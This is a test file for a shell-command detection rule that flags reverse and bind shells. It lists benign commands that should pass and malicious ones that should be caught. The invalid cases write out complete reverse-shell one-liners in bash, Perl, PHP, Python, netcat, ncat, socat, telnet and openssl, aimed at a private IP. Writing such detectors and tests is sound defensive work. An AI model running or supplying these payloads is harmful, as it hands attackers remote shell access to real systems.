import rule from '../../../../server/src/core/rules/shell/reverse-shell';
import { testShellRule } from '../../../helpers/shell-rule-tester';

testShellRule(rule, {
  valid: [
    'nc -zv db.internal 5432',
    'nc -l 8080 > received.bin',
    'bash deploy.sh > /tmp/log 2>&1',
    'bash -c "echo hi" > /dev/tcp/localhost/9',
    'cat < /dev/tcp/time.nist.gov/13',
    'socat TCP-LISTEN:8080,fork TCP:localhost:3000',
    'socat - EXEC:ls',
    'curl https://example.com | grep -c x',
    'nc host 25 < mail.txt | tee log',
    'echo "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"',
    'ncat --ssl example.com 443',
    `python3 -c 'import subprocess; subprocess.run(["sh", "build.sh"])'`,
    `perl -e 'system("sh -c \\"make all\\"")'`,
    'while true; do nc -l -p 1500 -c \'echo -e "HTTP/1.1 200 OK\n\n $(date)"\'; done',
    'ncat -l 8080 --exec /usr/bin/cat',
    'socat TCP-LISTEN:8080,fork EXEC:./serve-static',
  ],
  invalid: [
    {
      code: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i")'`,
      errors: [{ messageId: 'interpreterShell' }],
    },
    {
      code: `php -r '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh <&3 >&3 2>&3");'`,
      errors: [{ messageId: 'interpreterShell' }],
    },
    {
      code: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      errors: [{ messageId: 'socketRedirect', line: 1, column: 9, severity: 'error' }],
    },
    {
      code: 'sh &>/dev/udp/10.0.0.1/53 <&1',
      errors: [{ messageId: 'socketRedirect', line: 1, column: 4 }],
    },
    {
      code: 'bash -c "exec bash -i &>/dev/tcp/h.example/1 <&1"',
      errors: [{ messageId: 'socketRedirect', line: 1, column: 23 }],
    },
    { code: 'nc -c "$CMD" 10.0.0.1 4444', errors: [{ messageId: 'netcatExec', line: 1, column: 4 }] },
    {
      code: 'ncat 10.0.0.1 4444 --exec=/usr/bin/python3',
      errors: [{ messageId: 'netcatExec', line: 1, column: 20 }],
    },
    { code: 'nc -e /bin/sh 10.0.0.1 4444', errors: [{ messageId: 'netcatExec', line: 1, column: 4 }] },
    { code: 'busybox nc 10.0.0.1 4444 -e sh', errors: [{ messageId: 'netcatExec', line: 1, column: 26 }] },
    {
      code: 'ncat 10.0.0.1 4444 --sh-exec "bash -i"',
      errors: [{ messageId: 'netcatExec', line: 1, column: 20 }],
    },
    { code: 'nc -lvnp 4444 -e /bin/bash', errors: [{ messageId: 'netcatBind', line: 1, column: 15 }] },
    { code: 'netcat -lvp 4444 -e/bin/sh', errors: [{ messageId: 'netcatBind', line: 1, column: 18 }] },
    {
      code: 'socat tcp:10.0.0.1:4444 exec:"bash -li",pty,stderr,setsid',
      errors: [{ messageId: 'socatExec', line: 1, column: 25 }],
    },
    {
      code: 'socat TCP-LISTEN:1337,reuseaddr,fork SYSTEM:/bin/sh',
      errors: [{ messageId: 'socatExec', line: 1, column: 38 }],
    },
    {
      code: 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f',
      errors: [{ messageId: 'pipedShell', line: 1, column: 40 }],
    },
    {
      code: 'telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445',
      errors: [{ messageId: 'pipedShell', line: 1, column: 24 }],
    },
    {
      code: 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s',
      errors: [{ messageId: 'pipedShell', line: 1, column: 16 }],
    },
    {
      code: 'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
      errors: [{ messageId: 'socketRedirect' }],
    },
  ],
});
